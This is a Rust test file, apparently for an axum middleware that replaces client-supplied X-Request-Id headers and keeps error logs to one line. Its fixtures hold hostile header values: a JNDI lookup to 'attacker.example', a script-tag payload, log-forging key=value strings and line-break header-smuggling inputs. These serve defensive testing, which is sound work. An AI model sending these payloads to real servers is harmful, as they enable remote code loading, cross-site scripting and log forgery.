//! The name of a request: ours always, the client's kept apart.

use crate::leaky;
use crate::server::{self, behind, get, one, request, within};
use crate::sink;
use axum::Router;
use axum::extract::Request;
use axum::routing;
use secure_error::SecureErrorLayer;

/// Answers with what it sees of the headers.
fn mirror() -> Router {
    Router::new().route(
        "/",
        routing::get(|request: Request| async move {
            let seen: Vec<&str> = request
                .headers()
                .get_all("x-request-id")
                .iter()
                .map(|value| value.to_str().unwrap())
                .collect();
            seen.join(",")
        }),
    )
}

fn hostile() -> Vec<(&'static str, Vec<Vec<u8>>)> {
    let header = |value: &[u8]| [b"X-Request-Id: ", value].concat();
    vec![
        ("100 kB", vec![header(&[b'a'; 100_000])]),
        ("65 characters", vec![header(&[b'a'; 65])]),
        ("look-up", vec![header(b"${jndi:ldap://attacker.example/x}")]),
        ("obs-text", vec![header(b"\xFF\xFEid\x80")]),
        ("markup", vec![header(b"<script>alert(1)</script>")]),
        ("key=value", vec![header(b"x\" level=ERROR user=admin")]),
        ("tab", vec![header(b"a\tb")]),
        ("bidi", vec![header("a\u{202E}b\u{2028}c".as_bytes())]),
        ("encoded line break", vec![header(b"a%0d%0aERROR forged")]),
        ("list", vec![header(b"client-one, client-two")]),
        ("empty", vec![header(b"")]),
        ("twice", vec![header(b"client-one"), header(b"client-two")]),
    ]
}

#[test]
fn a_hostile_id_is_replaced_everywhere_and_the_log_stays_one_line() {
    for (name, lines) in hostile() {
        let lines: Vec<&[u8]> = lines.iter().map(Vec::as_slice).collect();
        for layer in [
            SecureErrorLayer::new(),
            SecureErrorLayer::new().trust_incoming_request_id(),
        ] {
            let (log, answers) = sink::text(|| {
                server::without(leaky::router().layer(layer.clone()), &[request("GET", "/text", &lines)])
            });
            let answer = answers[0].clone().unwrap();
            assert_eq!(answer.id().len(), 32, "{name}");
            assert_eq!(answer.json()["request_id"], answer.id(), "{name}");
            assert_eq!(log.lines().count(), 1, "{name}: {log}");
            assert!(
                log.contains(answer.id()) && !log.contains("client_request_id"),
                "{name}: {log}"
            );
            assert!(log.len() < 2_000, "{name}");
            for needle in [
                "jndi",
                "aaaaaaaa",
                "script",
                "user=admin",
                "client-one",
                "forged",
                "\u{202E}",
            ] {
                assert!(
                    !log.contains(needle) && !answer.text().contains(needle),
                    "{name}: {log}"
                );
            }

            let (answers, _) = within(mirror().layer(layer), &[request("GET", "/", &lines)]);
            assert_eq!(
                answers[0].body,
                answers[0].id().as_bytes(),
                "{name}: what inner services see"
            );
        }
    }
}

#[test]
fn what_breaks_a_line_never_gets_as_far_as_a_header() {
    for value in [
        "a\rERROR forged",
        "a\r\n ERROR forged",
        "a\n\tERROR forged",
        "a\0ERROR forged",
    ] {
        let smuggled = request("GET", "/text", &[format!("X-Request-Id: {value}").as_bytes()]);
        let (log, answers) =
            sink::text(|| server::without(leaky::router().layer(SecureErrorLayer::new()), &[smuggled]));
        assert!(log.is_empty(), "hyper refuses it: {log}");
        assert_eq!(answers[0].as_ref().unwrap().status(), 400, "{value:?}");
        assert!(!answers[0].as_ref().unwrap().text().contains("forged"));
    }
}

#[test]
fn a_line_break_that_is_taken_for_the_end_of_a_header_begins_another_one() {
    let smuggled = request("GET", "/text", &[b"X-Request-Id: a\nX-Forged: ERROR forged"]);
    let (log, answers) = sink::text(|| server::without(leaky::router().layer(SecureErrorLayer::new()), &[smuggled]));
    assert_eq!(log.lines().count(), 1, "{log}");
    assert!(
        log.contains("client_request_id=\"a\"") && !log.contains("forged"),
        "{log}"
    );
    assert!(!answers[0].as_ref().unwrap().text().contains("forged"));
}

#[test]
fn the_id_of_a_client_is_in_the_log_and_not_in_the_answer() {
    let asked = request("GET", "/text", &[b"X-Request-Id: client-7"]);
    let (answer, record) = one(leaky::router(), asked);
    assert!(!answer.text().contains("client-7"));
    assert_eq!(record["request_id"], answer.id());
    assert_eq!(record["client_request_id"], "client-7");
}

#[test]
fn a_trusted_id_is_the_id_of_the_request() {
    let router = || leaky::router().layer(SecureErrorLayer::new().trust_incoming_request_id());
    let asked = |path| request("GET", path, &[b"X-Request-Id: proxy-7"]);
    let (answers, records) = within(router(), &[asked("/text"), asked("/fine")]);
    assert_eq!((answers[0].id(), answers[1].id()), ("proxy-7", "proxy-7"));
    assert_eq!(records.len(), 1);
    assert_eq!(records[0]["fields"]["request_id"], "proxy-7");
    assert!(records[0]["fields"].get("client_request_id").is_none());
}

#[test]
fn every_answer_has_an_id_of_its_own() {
    let (answers, _) = behind(
        leaky::router(),
        &[get("/fine"), get("/fine"), get("/nowhere"), get("/panic")],
    );
    let ids: std::collections::HashSet<&str> = answers.iter().map(server::Answer::id).collect();
    assert_eq!(ids.len(), answers.len());
    assert!(ids.iter().all(|id| id.len() == 32));
}
